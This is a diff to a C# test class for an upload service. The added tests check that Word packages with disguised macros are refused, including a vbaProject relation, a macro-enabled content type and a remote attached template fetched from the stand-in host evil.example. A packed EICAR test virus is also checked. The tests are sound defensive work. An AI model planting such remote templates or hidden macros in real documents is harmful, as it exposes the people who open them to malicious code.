@@ -34,6 +34,35 @@ public sealed class HarmfulFileTests(ApiHost host)
         (await phone.Upload(Guid.CreateVersion7(), Package("word/document.xml"), "起诉状.docx")).Is(201);
     }
 
+    /// <summary>Office goes by the types of parts and of relations, whatever the part is called.</summary>
+    [Theory]
+    [InlineData(
+        "word/_rels/document.xml.rels",
+        "<Relationships><Relationship Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"macros.bin\"/></Relationships>"
+    )]
+    [InlineData("[Content_Types].xml", "<Types><Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>")]
+    [InlineData(
+        "word/_rels/settings.xml.rels",
+        "<Relationships><Relationship TargetMode=\"External\" Target=\"http://evil.example/t.dotm\" "
+            + "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\"/></Relationships>"
+    )]
+    public async Task Macros_under_another_name_are_refused(string part, string xml)
+    {
+        var phone = await host.SignedInByWeChat();
+        byte[] file = Package(("word/document.xml", "<x/>"u8.ToArray()), (part, Encoding.UTF8.GetBytes(xml)));
+        (await phone.Upload(Guid.CreateVersion7(), file, "起诉状.docx")).IsRefused(415, "attachment.macros");
+        file = Package(("word/document.xml", "<x/>"u8.ToArray()), ("word/macros.bin", Compound("_VBA_PROJECT")));
+        (await phone.Upload(Guid.CreateVersion7(), file, "起诉状.docx")).IsRefused(415, "attachment.macros");
+    }
+
+    [Fact]
+    public async Task The_test_virus_is_refused_when_it_is_packed_too()
+    {
+        var phone = await host.SignedInByWeChat();
+        var file = Package(("word/document.xml", "<x/>"u8.ToArray()), ("word/media/a.txt", s_eicar));
+        (await phone.Upload(Guid.CreateVersion7(), file, "证据.docx")).IsRefused(415, "attachment.infected");
+    }
+
     [Theory]
     [InlineData(0)]
     [InlineData(64 * 1024 - 30)]
@@ -97,15 +126,17 @@ public sealed class HarmfulFileTests(ApiHost host)
             }
         );
 
-    private static byte[] Package(params string[] parts)
+    private static byte[] Package(params string[] parts) => Package([.. parts.Select(p => (p, "x"u8.ToArray()))]);
+
+    private static byte[] Package(params (string Name, byte[] Bytes)[] parts)
     {
         using var bytes = new MemoryStream();
         using (var zip = new ZipArchive(bytes, ZipArchiveMode.Create, leaveOpen: true))
         {
-            foreach (var part in parts)
+            foreach (var (name, content) in parts)
             {
-                using var entry = zip.CreateEntry(part).Open();
-                entry.Write("x"u8);
+                using var entry = zip.CreateEntry(name).Open();
+                entry.Write(content);
             }
         }
 
